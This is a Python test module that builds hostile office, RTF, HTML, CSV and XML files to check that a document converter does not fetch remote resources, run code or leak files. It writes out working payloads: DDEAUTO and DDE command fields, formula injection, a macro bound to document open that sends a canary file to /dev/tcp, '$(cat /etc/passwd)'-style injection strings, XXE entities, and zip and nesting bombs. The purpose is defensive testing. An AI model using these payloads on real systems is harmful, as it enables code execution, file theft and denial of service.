"""Documents that refer to what is elsewhere, and documents that bring code."""

import struct
from xml.sax.saxutils import escape, quoteattr

from . import add, case, solid_png
from .packages import (NAMES, W, XML, docx, entities, field, flat, formulas, image, odf, ooxml, paragraph, picture, rels, xlsx)

DONE = "completed"
# --- Word


def numbered(urls):
    return [(f"r{i}", u) for i, u in enumerate(urls)]


@case("docx-linked-pictures", "a.docx", "pdf", DONE)
def _(c):
    urls = numbered(c.everywhere())
    return docx("".join(picture(i) for i, _ in urls), [(i, "image", u, True) for i, u in urls])


@case("docx-vml-pictures", "a.docx", "pdf", DONE)
def _(c):
    urls = numbered(c.everywhere())
    body = "".join(f'<w:p><w:r><w:pict><v:shape style="width:60pt;height:60pt"><v:imagedata r:id="{i}" r:href="{i}" '
                   f'o:href={quoteattr(u)} src={quoteattr(u)}/></v:shape></w:pict></w:r></w:p>' for i, u in urls)
    return docx(body, [(i, "image", u, True) for i, u in urls])


@case("docx-attached-template", "a.docx", "odt", DONE)
def _(c):
    parts = [("word/settings.xml", f'{XML}<w:settings {W}><w:attachedTemplate r:id="t0"/><w:attachedTemplate r:id="t1"/></w:settings>'),
             ("word/_rels/settings.xml.rels", rels([("t0", "attachedTemplate", c.remote("dotm")[0], True),
                                                   ("t1", "attachedTemplate", c.local("rtf")[0], True)]))]
    return docx(paragraph("a template"), [("s", "settings", "settings.xml", False)], parts)


@case("docx-fields", "a.docx", "pdf", DONE)
def _(c):
    texts, pictures = c.everywhere("txt"), c.everywhere()
    return docx("".join(field(f'INCLUDEPICTURE "{u}" \\d') for u in pictures) + "".join(field(f'INCLUDETEXT "{u}"') for u in texts)
                + "".join(field(f'LINK Word.Document.8 "{u}" \\a \\f 0') for u in texts)
                + field(f'DDEAUTO soffice "{c.folder}/canary.txt" A1') + field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
                + field(f'IMPORT "{c.local()[1]}"') + field(f'RD "{c.local("rtf")[1]}"') + field(f'DATABASE \\d "{c.local("csv")[1]}"'))


@case("docx-altchunk", "a.docx", "pdf", DONE)
def _(c):
    html = "".join(f"<img src={quoteattr(u)}>" for u in c.everywhere()) + f"<iframe src='{c.local('html')[0]}'></iframe>"
    return docx('<w:altChunk r:id="c0"/><w:altChunk r:id="c1"/><w:altChunk r:id="c2"/>' + paragraph("end"),
                [("c0", "aFChunk", "chunk.html", False), ("c1", "aFChunk", c.local("html")[0], True),
                 ("c2", "aFChunk", c.remote("html")[0], True)], [("word/chunk.html", f"<html><body>{html}</body></html>")])


@case("docx-frameset", "a.docx", "odt", DONE)
def _(c):
    urls = numbered(c.everywhere("html"))
    frames = "".join(f'<w:frame><w:sourceFileName r:id="{i}"/></w:frame>' for i, _ in urls)
    parts = [("word/webSettings.xml", f"{XML}<w:webSettings {W}><w:frameset>{frames}</w:frameset></w:webSettings>"),
             ("word/_rels/webSettings.xml.rels", rels([(i, "frame", u, True) for i, u in urls]))]
    return docx(paragraph("frames") + "".join(f'<w:subDoc r:id="{i}"/>' for i, _ in urls),
                [("w", "webSettings", "webSettings.xml", False), *((i, "subDocument", u, True) for i, u in urls)], parts)


@case("docx-ole-links", "a.docx", "pdf", DONE)
def _(c):
    urls = numbered(c.everywhere("rtf"))
    body = "".join(f'<w:p><w:r><w:object><v:shape id="s{i}" style="width:60pt;height:60pt"/><o:OLEObject Type="Link" '
                   f'ProgID="Word.Document.8" ShapeID="s{i}" DrawAspect="Content" ObjectID="_{i}" r:id="{i}" '
                   'UpdateMode="Always"/></w:object></w:r></w:p>' for i, _ in urls)
    return docx(body, [(i, "oleObject", u, True) for i, u in urls])


@case("docx-embedded-svg", "a.docx", "pdf", DONE)
def _(c):
    inner = "".join(f'<image width="64" height="64" xlink:href={quoteattr(u)}/>' for u in c.everywhere() + c.local("svg"))
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'
           f"<style>@import url('{c.local('css')[0]}');</style>{inner}</svg>")
    return docx(picture("i", link=False), [("i", "image", "media/a.svg", False)], [("word/media/a.svg", svg)])


@case("docx-mail-merge", "a.docx", "odt", DONE)
def _(c):
    settings = (f'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/><w:connectString '
                f'w:val="Provider=X;Data Source={c.local("csv")[1]}"/><w:query w:val="SELECT * FROM canary"/>'
                '<w:dataSource r:id="d"/></w:mailMerge>')
    return docx(paragraph("Dear") + field("MERGEFIELD a"), [("s", "settings", "settings.xml", False)],
                [("word/settings.xml", f"{XML}<w:settings {W}>{settings}</w:settings>"),
                 ("word/_rels/settings.xml.rels", rels([("d", "mailMergeSource", c.local("csv")[0], True)]))])


@case("docm-macros", "a.docm", "pdf", "completed corrupt_input")
def _(c):
    return docx(paragraph("code"), [("v", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)],
                [("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048))],
                [("word/vbaProject.bin", "application/vnd.ms-office.vbaProject")], kind="docm")


# --- Excel


@case("xlsx-formulas", "a.xlsx", "csv", DONE)
def _(c):
    calls = [f'WEBSERVICE("{u}")' for u in c.everywhere("txt")]
    calls += [f"'{u[:-len('/canary.csv')]}/[canary.csv]S'!A1" for u in c.local("csv")[:2]]
    calls += [f"'{u}'#$S.A1" for u in c.local("csv")[:2]]
    calls += [f'FILTERXML(WEBSERVICE("{c.local("svg")[0]}"),"//*")', f'HYPERLINK("{c.remote()[0]}","x")',
              f'DDE("soffice","{c.local("csv")[1]}","A1")', "cmd|'/c calc'!A1", f'IMPORTXML("{c.remote()[0]}","//a")',
              f'IMPORTDATA("{c.remote("csv")[0]}")', f'INDIRECT("\'{c.local("csv")[0]}\'#$S.A1")', 'INFO("directory")']
    return xlsx(formulas(calls))


@case("xlsx-external-links", "a.xlsx", "pdf", DONE)
def _(c):
    urls = list(enumerate(c.everywhere("csv"), 1))
    parts, overrides = [], []
    for i, u in urls:
        name = f"xl/externalLinks/externalLink{i}.xml"
        parts += [(name, f'{XML}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r='
                         '"http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="x">'
                         "<sheetNames><sheetName val=\"canary\"/></sheetNames></externalBook></externalLink>"),
                  (f"xl/externalLinks/_rels/externalLink{i}.xml.rels", rels([("x", "externalLinkPath", u, True)]))]
        overrides.append((name, "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"))
    refs = "".join(f'<externalReference r:id="e{i}"/>' for i, _ in urls)
    return xlsx(formulas([f"[{i}]canary!A1" for i, _ in urls]),
                [(f"e{i}", "externalLink", f"externalLinks/externalLink{i}.xml", False) for i, _ in urls], parts, overrides,
                f"<externalReferences>{refs}</externalReferences>")


@case("xlsx-dde-and-queries", "a.xlsx", "ods", DONE)
def _(c):
    s = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    dde = (f'{XML}<externalLink {s}><ddeLink ddeService="soffice" ddeTopic="{c.local("csv")[1]}"><ddeItems><ddeItem name="A1" '
           'advise="1"/></ddeItems></ddeLink></externalLink>')
    connections = (f'{XML}<connections {s}><connection id="1" name="w" type="4" refreshOnLoad="1" background="0">'
                   f'<webPr sourceData="1" url="{c.remote("html")[0]}"/></connection><connection id="2" name="t" type="6" '
                   f'refreshOnLoad="1"><textPr sourceFile="{c.local("csv")[1]}"/></connection></connections>')
    query = f'{XML}<queryTable {s} name="w" connectionId="1" refreshOnLoad="1"/>'
    base = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    return xlsx(formulas(["[1]!A1"]), [("e", "externalLink", "externalLinks/externalLink1.xml", False),
                                       ("c", "connections", "connections.xml", False)],
                [("xl/externalLinks/externalLink1.xml", dde), ("xl/connections.xml", connections),
                 ("xl/queryTables/queryTable1.xml", query),
                 ("xl/worksheets/_rels/sheet1.xml.rels", rels([("q", "queryTable", "../queryTables/queryTable1.xml", False)]))],
                [("xl/externalLinks/externalLink1.xml", base + "externalLink+xml"), ("xl/connections.xml", base + "connections+xml"),
                 ("xl/queryTables/queryTable1.xml", base + "queryTable+xml")],
                '<externalReferences><externalReference r:id="e"/></externalReferences>')


@case("csv-formulas", "a.csv", "pdf", DONE)
def _(c):
    cells = [f'=WEBSERVICE("{u}")' for u in c.everywhere("txt")]
    cells += [f"='{c.local('csv')[0]}'#$Sheet1.A1", f'=DDE("soffice","{c.local("csv")[1]}","A1")', "=cmd|'/c calc'!A1",
              f'=HYPERLINK("{c.remote()[0]}")', f'+WEBSERVICE("{c.remote()[0]}")', f'@WEBSERVICE("{c.remote()[0]}")']
    return "".join('"' + x.replace('"', '""') + '",1\n' for x in cells).encode()


# --- PowerPoint


@case("pptx-linked-media", "a.pptx", "pdf", DONE)
def _(c):
    p = ('xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/'
         'drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
    urls = numbered(c.everywhere())
    shapes = "".join(
        f'<p:pic><p:nvPicPr><p:cNvPr id="{n}" name="x"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="{i}"/></p:nvPr></p:nvPicPr>'
        f'<p:blipFill><a:blip r:link="{i}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/>'
        '<a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
        for n, (i, _) in enumerate(urls, 5))
    slide = (f'{XML}<p:sld {p}><p:cSld><p:bg><p:bgPr><a:blipFill><a:blip r:link="r10"/></a:blipFill><a:effectLst/></p:bgPr></p:bg>'
             '<p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
             f"{shapes}</p:spTree></p:cSld></p:sld>")
    base = "application/vnd.openxmlformats-officedocument.presentationml."
    return ooxml("pptx", f'{XML}<p:presentation {p}><p:sldIdLst><p:sldId id="256" r:id="s"/></p:sldIdLst><p:sldSz cx="9144000" '
                 'cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>', [("s", "slide", "slides/slide1.xml", False)],
                 [("ppt/slides/slide1.xml", slide),
                  ("ppt/slides/_rels/slide1.xml.rels", rels([(i, "image", u, True) for i, u in urls]))],
                 [("ppt/slides/slide1.xml", base + "slide+xml")])


# --- OpenDocument


def text_links(c):
    sections = "".join(f'<text:section text:name="s{i}"><text:section-source xlink:type="simple" xlink:href={quoteattr(u)}/>'
                       f"<text:p>?</text:p></text:section>" for i, u in enumerate(c.links("txt") + c.local("html") + c.local("rtf")))
    dde = (f'<text:section text:name="dde"><office:dde-source office:dde-application="soffice" office:automatic-update="true" '
           f'office:dde-topic="{c.local("txt")[1]}" office:dde-item="all"/><text:p>?</text:p></text:section>')
    return "".join(f"<text:p>{image(u)}</text:p>" for u in c.links()) + sections + dde


def backgrounds(c):
    fills = "".join(f'<style:style style:name="b{i}" style:family="paragraph"><style:paragraph-properties><style:background-image '
                    f'xlink:href={quoteattr(u)} xlink:type="simple" xlink:actuate="onLoad"/></style:paragraph-properties>'
                    "</style:style>" for i, u in enumerate(c.links()))
    return f"<office:automatic-styles>{fills}</office:automatic-styles>"


def background_text(c):
    return "".join(f'<text:p text:style-name="b{i}">{i}</text:p>' for i in range(len(c.links())))


def objects(c):
    return "<text:p>" + "".join(
        f'<draw:frame svg:width="2cm" svg:height="2cm"><draw:{kind} xlink:href={quoteattr(u)} xlink:type="simple" '
        f'xlink:show="embed" xlink:actuate="onLoad"{extra}/></draw:frame>'
        for kind, extra in (("object", ""), ("object-ole", ""), ("floating-frame", ""),
                            ("plugin", ' draw:mime-type="application/vnd.sun.star.media"'),
                            ("applet", ' draw:code="x.class"')) for u in c.links("rtf")) + "</text:p>"


def macro_events():
    """Basic in the document, bound to its opening; and code of the installation, and a URL, bound as well."""
    listeners = "".join(
        f'<script:event-listener script:language="ooo:script" script:event-name="dom:{event}" xlink:type="simple" '
        f'xlink:href="{url}"/>' for event in ("load", "DOMContentLoaded", "select") for url in (
            "vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document",
            "vnd.sun.star.script:pythonSamples|TableSample.py$createTable?language=Python&amp;location=share"))
    return f"<office:scripts><office:event-listeners>{listeners}</office:event-listeners></office:scripts>"


def basic(c):
    source = escape(f'''Sub Main
Dim s : s = FreeFile
Open "{c.local("txt")[1]}" For Input As #s
Line Input #s, t
ThisComponent.Text.String = t
Shell("/bin/sh", 0, "-c 'cat {c.local("txt")[1]} > /dev/tcp/127.0.0.1/{c.ports[0]}'")
End Sub''')
    script = 'xmlns:script="http://openoffice.org/2000/script" xmlns:library="http://openoffice.org/2000/library"'
    xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
    return [("Basic/Standard/M.xml", f'{XML}<script:module {script} script:name="M" script:language="StarBasic">{source}</script:module>'),
            ("Basic/Standard/script-lb.xml", f'{XML}<library:library {script} library:name="Standard" library:readonly="false" '
             'library:passwordprotected="false"><library:element library:name="M"/></library:library>'),
            ("Basic/script-lc.xml", f'{XML}<library:libraries {script} {xlink}><library:library library:name="Standard" '
             'library:link="false"/></library:libraries>')]


for kind in ("odt", "fodt"):
    def make(c, body, before="", parts=(), kind=kind):
        return flat("odt", body, before) if kind == "fodt" else odf("odt", body, before, parts)

    add(f"{kind}-links", f"a.{kind}", "pdf", DONE, lambda c, make=make: make(c, text_links(c)))
    add(f"{kind}-backgrounds", f"a.{kind}", "pdf", DONE, lambda c, make=make: make(c, background_text(c), backgrounds(c)))
    add(f"{kind}-objects", f"a.{kind}", "pdf", DONE, lambda c, make=make: make(c, objects(c)))
    add(f"{kind}-macro-on-open", f"a.{kind}", "docx" if kind == "odt" else "odt", DONE,
        lambda c, make=make: make(c, "<text:p>code</text:p>", macro_events(), basic(c)))


@case("odt-links-kept-in-docx", "a.odt", "docx", DONE)
def _(c):
    return odf("odt", text_links(c))


def sheet_links(c):
    sources = "".join(f'<table:table table:name="t{i}"><table:table-source xlink:href={quoteattr(u)} xlink:type="simple" '
                      'table:mode="copy-all" table:refresh-delay="PT1S"/><table:table-row><table:table-cell/></table:table-row>'
                      "</table:table>" for i, u in enumerate(c.links("csv")))
    ranges = "".join(f'<table:table-cell><table:cell-range-source table:name="A1" xlink:href={quoteattr(u)} xlink:type="simple" '
                     'table:last-column-spanned="1" table:last-row-spanned="1" table:refresh-delay="PT1S"/></table:table-cell>'
                     for u in c.links("csv"))
    cells = "".join(f'<table:table-cell table:formula={quoteattr("of:=" + f)} office:value-type="string"/>' for f in
                    [f'WEBSERVICE("{u}")' for u in c.links("txt")] + [f"'{u}'#$canary.A1" for u in c.local("csv")]
                    + [f'DDE("soffice";"{c.local("csv")[1]}";"A1")', f'WEBSERVICE("{c.local("csv")[0]}")'])
    dde = (f'<table:dde-links><table:dde-link><office:dde-source office:dde-application="soffice" office:dde-topic='
           f'"{c.local("csv")[1]}" office:dde-item="A1" office:automatic-update="true"/><table:table><table:table-row>'
           "<table:table-cell/></table:table-row></table:table></table:dde-link></table:dde-links>")
    return (f'<table:table table:name="S"><table:table-row>{ranges}</table:table-row><table:table-row>{cells}</table:table-row>'
            f"</table:table>{sources}{dde}")


add("ods-links", "a.ods", "csv", DONE, lambda c: odf("ods", sheet_links(c)))
add("fods-links", "a.fods", "pdf", DONE, lambda c: flat("ods", sheet_links(c)))


def slide_links(c):
    media = "".join(f'<draw:frame svg:width="2cm" svg:height="2cm"><draw:plugin xlink:href={quoteattr(u)} xlink:type="simple" '
                    'draw:mime-type="application/vnd.sun.star.media"/></draw:frame>' for u in c.links("mp4"))
    sounds = "".join(f'<presentation:sound xlink:href={quoteattr(u)} xlink:type="simple" xlink:actuate="onRequest"/>' for u in c.links("wav"))
    listener = (f'<draw:rect svg:width="2cm" svg:height="2cm"><office:event-listeners><presentation:event-listener script:event-name='
                f'"dom:click" presentation:action="sound">{sounds}</presentation:event-listener></office:event-listeners></draw:rect>')
    return f'<draw:page draw:name="p">{"".join(image(u) for u in c.links())}{media}{listener}</draw:page>'


add("odp-links", "a.odp", "pdf", DONE, lambda c: odf("odp", slide_links(c)))
add("odg-links", "a.odg", "png", DONE, lambda c: odf("odg", f'<draw:page draw:name="p">{"".join(map(image, c.links()))}</draw:page>'))
add("fodg-links", "a.fodg", "svg", DONE, lambda c: flat("odg", f'<draw:page draw:name="p">{"".join(map(image, c.links()))}</draw:page>'))
add("fodp-links", "a.fodp", "pdf", DONE, lambda c: flat("odp", slide_links(c)))


@case("odt-unc-link", "a.odt", "pdf", "corrupt_input completed")
def _(c):
    return odf("odt", f"<text:p>{image(c.remote()[8])}</text:p>")


# --- Rich Text


@case("rtf-fields", "a.rtf", "pdf", DONE)
def _(c):
    def quoted(url):
        return url.replace("\\", "\\\\\\\\")

    fields = "".join(f'{{\\field\\flddirty{{\\*\\fldinst {{ {name} "{quoted(u)}" \\\\d }}}}{{\\fldrslt ?}}}}\\par\n'
                     for name, kind in (("INCLUDEPICTURE", "png"), ("INCLUDETEXT", "txt"), ("IMPORT", "png")) for u in c.everywhere(kind))
    dde = "{\\field{\\*\\fldinst DDEAUTO soffice \"%s\" A1}{\\fldrslt ?}}" % c.local("txt")[1]
    return ("{\\rtf1\\ansi{\\*\\template %s}{\\*\\template %s}\n%s%s}" % (quoted(c.remote("dot")[0]), quoted(c.local("rtf")[1]), fields, dde)).encode()


@case("rtf-ole-link", "a.rtf", "odt", DONE)
def _(c):
    def text(s):
        return struct.pack("<I", len(s) + 1) + s.encode() + b"\0"

    objects = ""
    for url in c.everywhere("rtf"):
        data = struct.pack("<II", 0x501, 1) + text("Word.Document.8") + text(url) + text("A1")
        objects += ("{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass Word.Document.8}{\\*\\objname x}{\\*\\objdata "
                    + data.hex() + "}{\\result ?}}\\par\n")
    return ("{\\rtf1\\ansi " + objects + "}").encode()


# --- HTML


@case("html-everything", "a.html", "pdf", DONE)
def _(c):
    urls = [escape(u, {"'": "&apos;"}) for u in c.everywhere()]
    pages = [escape(u, {"'": "&apos;"}) for u in c.everywhere("html")]
    sheets = [escape(u, {"'": "&apos;"}) for u in c.everywhere("css")]
    return ("<html><head>" + "".join(f"<link rel=stylesheet href='{u}'>" for u in sheets)
            + f"<base href='{c.remote()[0]}'><meta http-equiv=refresh content='0;url={c.local('html')[0]}'>"
            + "<style>" + "".join(f"@import url('{u}');\n" for u in c.everywhere("css"))
            + "".join(f".b{i} {{ background-image: url('{u}'); list-style-image: url('{u}') }}\n" for i, u in enumerate(c.everywhere()))
            + f"</style><script src='{c.remote('js')[0]}'></script></head><body background='{c.local()[0]}'>"
            + "".join(f"<img src='{u}'><input type=image src='{u}'><table background='{u}'><tr><td background='{u}'>x</table>"
                      f"<video poster='{u}' src='{u}'></video>" for u in urls)
            + "".join(f"<iframe src='{u}'></iframe><object data='{u}'></object><embed src='{u}'>" for u in pages)
            + "".join(f"<p class=b{i}>x</p>" for i in range(len(urls))) + "</body></html>").encode()


@case("html-frameset", "a.html", "odt", "completed no_output corrupt_input")
def _(c):
    frames = "".join(f"<frame src='{escape(u)}'>" for u in c.everywhere("html"))
    return f"<html><frameset cols='*,*'>{frames}</frameset></html>".encode()


@case("html-server-side", "a.html", "txt", DONE)
def _(c):
    return (f"<html><body><!--#include file=\"{c.local('txt')[1]}\" --><!--#exec cmd=\"cat {c.local('txt')[1]}\" -->"
            f"<?php readfile('{c.local('txt')[1]}'); ?><p>x</p><SDFIELD TYPE=DOCINFO SUBTYPE=TITLE>"
            f"<sdfield type=script src='{c.local('txt')[0]}'>x</body></html>").encode()


@case("txt-names", "a.txt", "pdf", DONE)
def _(c):
    return ("\n".join(c.remote() + ["@/etc/passwd", "|cat /etc/passwd", "$(cat /etc/passwd)", "`id`", "%n%n%s"])).encode()


# --- XML entities


def leaking(c, how):
    return "bomb" if how == "bomb" else c.remote("dtd")[0] if how == "remote" else c.local("txt")[0]


for how in ("bomb", "remote", "local"):
    add(f"docx-entity-{how}", "a.docx", "pdf", "type_mismatch",
        lambda c, how=how: docx("<w:p><w:r><w:t>&leak;</w:t></w:r></w:p>", head=entities("w:document", leaking(c, how))))
    add(f"odt-entity-{how}", "a.odt", "pdf", "type_mismatch",
        lambda c, how=how: odf("odt", "<text:p>&leak;</text:p>", head=entities("office:document-content", leaking(c, how))))
    add(f"fodt-entity-{how}", "a.fodt", "pdf", "type_mismatch",
        lambda c, how=how: flat("odt", "<text:p>&leak;</text:p>", head=entities("office:document", leaking(c, how))))


@case("odt-entity-in-manifest", "a.odt", "pdf", "type_mismatch")
def _(c):
    return odf("odt", "<text:p>x</text:p>", manifest_head=entities("manifest:manifest", "bomb"))


@case("docx-entity-in-content-types", "a.docx", "pdf", "type_mismatch")
def _(c):
    return ooxml("docx", f"<w:document {W}><w:body/></w:document>", types_head=entities("Types", "bomb"))


@case("docx-entity-in-utf16", "a.docx", "pdf", "type_mismatch")
def _(c):
    return docx_raw(entities("w:document", "bomb").join(("<?xml version=\"1.0\" encoding=\"UTF-16\"?>", f"<w:document {W}><w:body><w:p><w:r>"
                    "<w:t>&leak;</w:t></w:r></w:p></w:body></w:document>")).encode("utf-16"))


def docx_raw(main):
    return ooxml("docx", main)


@case("fodt-external-subset", "a.fodt", "pdf", "completed corrupt_input")
def _(c):
    return flat("odt", "<text:p>x</text:p>", head=f'<!DOCTYPE office:document SYSTEM "{c.remote("dtd")[0]}">')


@case("fodt-xinclude", "a.fodt", "pdf", DONE)
def _(c):
    return flat("odt", "<text:p>" + "".join(f'<xi:include href={quoteattr(u)} parse="text"/>' for u in c.everywhere("txt")) + "x</text:p>")


@case("fodt-embedded-svg", "a.fodt", "png", DONE)
def _(c):
    import base64
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'
           + "".join(f'<image width="64" height="64" xlink:href={quoteattr(u)}/>' for u in c.local() + c.remote()) + "</svg>")
    return flat("odt", '<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image><office:binary-data>'
                + base64.b64encode(svg.encode()).decode() + "</office:binary-data></draw:image></draw:frame></text:p>")


# --- documents that eat


def nested(open_tag, close_tag, depth, inside):
    return open_tag * depth + inside + close_tag * depth


TOO_MUCH = "completed too_complex timed_out"  # by what it asks for: no crash, and no fault of the file's form
BOUNDED = "completed corrupt_input too_complex timed_out engine_crashed no_output"


@case("docx-1000-nested-tables", "a.docx", "pdf", BOUNDED)
def _(c):
    return docx(nested('<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w="100"/></w:tblGrid><w:tr><w:tc><w:tcPr/>',
                       "<w:p/></w:tc></w:tr></w:tbl>", 1000, "<w:p/>") + "<w:p/>")


@case("fodt-deep-nesting", "a.fodt", "pdf", BOUNDED)
def _(c):
    return flat("odt", "<text:p>" + nested("<text:span>", "</text:span>", 100000, "x") + "</text:p>")


@case("html-deep-nesting", "a.html", "txt", BOUNDED)
def _(c):
    return nested("<div><table><tr><td>", "</td></tr></table></div>", 20000, "x").encode()


@case("rtf-deep-nesting", "a.rtf", "pdf", BOUNDED)
def _(c):
    return b"{\\rtf1 " + b"{\\b " * 200000 + b"x" + b"}" * 200001


@case("xlsx-million-cells", "a.xlsx", "csv", BOUNDED)
def _(c):
    return xlsx('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', dimension="A1:XFD1048576")


@case("ods-repeated-rows", "a.ods", "pdf", TOO_MUCH)
def _(c):
    return odf("ods", '<table:table table:name="S"><table:table-row table:number-rows-repeated="1048576"><table:table-cell '
               'table:number-columns-repeated="16384" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'
               "</table:table-row></table:table>")


@case("fods-repeated-spans", "a.fods", "html", TOO_MUCH)
def _(c):
    return flat("ods", '<table:table table:name="S"><table:table-row><table:table-cell office:value-type="string"><text:p>x<text:s '
                'text:c="2000000000"/></text:p></table:table-cell></table:table-row></table:table>')


@case("xlsx-circular-formulas", "a.xlsx", "csv", BOUNDED)
def _(c):
    return xlsx(formulas([f"SUM(A{i % 3000 + 1}:A3000)+REPT(A{i},1000000)" for i in range(1, 3001)]),
                workbook='<calcPr iterate="1" iterateCount="32767" fullCalcOnLoad="1"/>')


@case("odt-page-number-loop", "a.odt", "pdf", BOUNDED)
def _(c):
    return odf("odt", "".join(f'<text:p><text:bookmark text:name="b{i}"/><text:bookmark-ref text:ref-name="b{(i + 1) % 500}" '
                              'text:reference-format="text"/>' + image("Pictures/none.png") + "</text:p>" for i in range(500)))


@case("odt-object-in-itself", "a.odt", "pdf", BOUNDED)
def _(c):
    inner = odf("odt", "<text:p>x</text:p>")
    return odf("odt", '<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:object xlink:href="./" xlink:type="simple"/>'
               '</draw:frame><draw:frame svg:width="2cm" svg:height="2cm"><draw:object xlink:href="./Object 1" xlink:type="simple"/>'
               "</draw:frame></text:p>",
               parts=[("Object 1/content.xml", f'{XML}<office:document-content {NAMES}><office:body><office:text><text:p><draw:frame>'
                       '<draw:object xlink:href="../" xlink:type="simple"/></draw:frame></text:p></office:text></office:body>'
                       "</office:document-content>"), ("inner.odt", inner)])


@case("csv-wide", "a.csv", "pdf", BOUNDED)
def _(c):
    return (b"1," * 20000 + b"\n") * 60


@case("docx-picture-bomb", "a.docx", "pdf", BOUNDED)
def _(c):
    import zlib
    from . import png_file
    bomb = png_file(30000, 30000, (b"IDAT", zlib.compress(bytes(30000 * 3 * 200), 9)))
    return docx(picture("i", link=False), [("i", "image", "media/a.png", False)], [("word/media/a.png", bomb)])


@case("docx-good-picture", "a.docx", "pdf", DONE)
def _(c):
    """Not hostile: shows that a picture which belongs to the file is drawn."""
    return docx(picture("i", link=False), [("i", "image", "media/a.png", False)], [("word/media/a.png", solid_png((1, 2, 3)))])
